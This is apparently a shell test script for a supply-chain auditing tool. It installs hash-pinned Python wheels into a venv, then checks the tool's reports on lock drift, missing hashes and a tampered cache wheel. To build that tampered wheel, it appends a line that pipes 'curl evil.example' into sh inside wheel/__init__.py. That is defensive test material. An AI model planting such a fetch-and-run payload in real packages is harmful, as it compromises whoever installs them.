#!/bin/sh
# A real install with pip --require-hashes, made here, offline: Debian's
# python3 -m venv, then pip installs example==21.12 and wheel==0.43.0 from
# a requirements.txt pinning their sha256 (wheels of
# tests/fixtures/packages/pylock-wheels).  One package record per
# distribution pip list shows (pip and setuptools, which the venv was made
# with, are "venv_seed", not extraneous), each locked one compared with
# its wheel in pip 24's http-v2 cache (pylock-req-cache) or in a folder of
# wheels (pip download -d), no finding.  Then the environment drifts from
# the lock: wheel downgraded to 0.40.0, example2 installed by hand, a
# locked distribution uninstalled: CAIRN-P09 names each with the command
# that puts the lock back.  And a lock that pins no hashes: CAIRN-P04.
set -eu
. "$CAIRN_SRC/tests/cli/lib.sh"
need jq jq
need zstd zstd
unset PIP_FIND_LINKS PIP_INDEX_URL PIP_REQUIRE_VIRTUALENV
export PIP_CONFIG_FILE=/dev/null PIP_NO_CACHE_DIR=1 PIP_DISABLE_PIP_VERSION_CHECK=1
fx="$CAIRN_SRC/tests/fixtures/packages"
w="$fx/pylock-wheels"
pkgs() {
	zstd -dcq "$1" | jq -c 'select(.type == "package") | [.path, .manager, .lockfile, .version,
		.locked_version, .flags, .files.authority, .coverage.verified, .coverage.reason]'
}
findings() {
	cairn-report --snapshot "$1" --format json --no-timestamp | jq -c '.findings[] | [.id // .rule, .severity, .title]'
}
mkdir app
h() { sha256sum "$w/$1" | cut -d' ' -f1; }
printf 'example==21.12 \\\n    --hash=sha256:%s\nwheel==0.43.0 \\\n    --hash=sha256:%s\n' \
	"$(h example/example-21.12-py3-none-any.whl)" "$(h wheel/wheel-0.43.0-py3-none-any.whl)" \
	> app/requirements.txt
/usr/bin/python3 -m venv app/.venv || fail "python3 -m venv (python3-venv, scripts/deps.sh)"
pip="app/.venv/bin/python -m pip"
$pip install -q --no-index --find-links "$w/example" --find-links "$w/wheel" \
	--require-hashes -r app/requirements.txt || fail "pip install --require-hashes"
listed=$($pip list --format json | jq length)

run cairn-snap -q --pip-cache "$fx/pylock-req-cache" -o a.cairn app
pkgs a.cairn
got=$(zstd -dcq a.cairn | jq -s '[.[] | select(.type == "package" and .version != null)] | length')
[ "$got" -eq "$listed" ] || fail "$got package records, pip list shows $listed"
echo "records: $got, pip list: $listed"
findings a.cairn
# a folder of wheels (what pip download -d writes) serves as well
run cairn-snap -q --pip-cache "$w/wheel" -o b.cairn app
zstd -dcq b.cairn | jq -c 'select(.type == "package" and .name == "wheel") | [.files.authority, .coverage.verified]'

# a cache holding another wheel-0.43.0 (one member changed, so another
# sha256): not the locked wheel, never compared with; not verified
mkdir poisoned
/usr/bin/python3 - "$w/wheel/wheel-0.43.0-py3-none-any.whl" poisoned/wheel-0.43.0-py3-none-any.whl <<'PY'
import sys, zipfile
with zipfile.ZipFile(sys.argv[1]) as src, zipfile.ZipFile(sys.argv[2], "w") as dst:
    for i in src.infolist():
        data = src.read(i)
        if i.filename == "wheel/__init__.py":
            data += b"import os; os.system('curl -s evil.example | sh')\n"
        dst.writestr(i, data)
PY
run cairn-snap -q --pip-cache "$PWD/poisoned" -o p.cairn app
zstd -dcq p.cairn | jq -c 'select(.type == "package" and .name == "wheel") | [.flags, .files.authority,
	.coverage.verified, .coverage.reason, .coverage.detail]' | sed "s|$PWD|<PWD>|g"

# drift: downgraded, installed by hand, uninstalled
$pip install -q --no-index --find-links "$w/wheel" --find-links "$w/example2" \
	wheel==0.40.0 example2==1.0.0 || fail "pip install drift"
$pip uninstall -q -y example || fail "pip uninstall"
run cairn-snap -q --pip-cache "$fx/pylock-req-cache" -o d.cairn app
pkgs d.cairn
findings d.cairn
cairn-report --snapshot d.cairn --format json --no-timestamp |
	jq -c '.findings[] | select(.id == "CAIRN-P09") | .evidence[] | [.file, .package, .version, .detail, .text]'

# pinned without hashes
mkdir nohash
cp -R app/.venv nohash/.venv
printf 'example2==1.0.0\nwheel==0.40.0\n' > nohash/requirements.txt
run cairn-snap -q --no-pip-cache -o n.cairn nohash
pkgs n.cairn
findings n.cairn
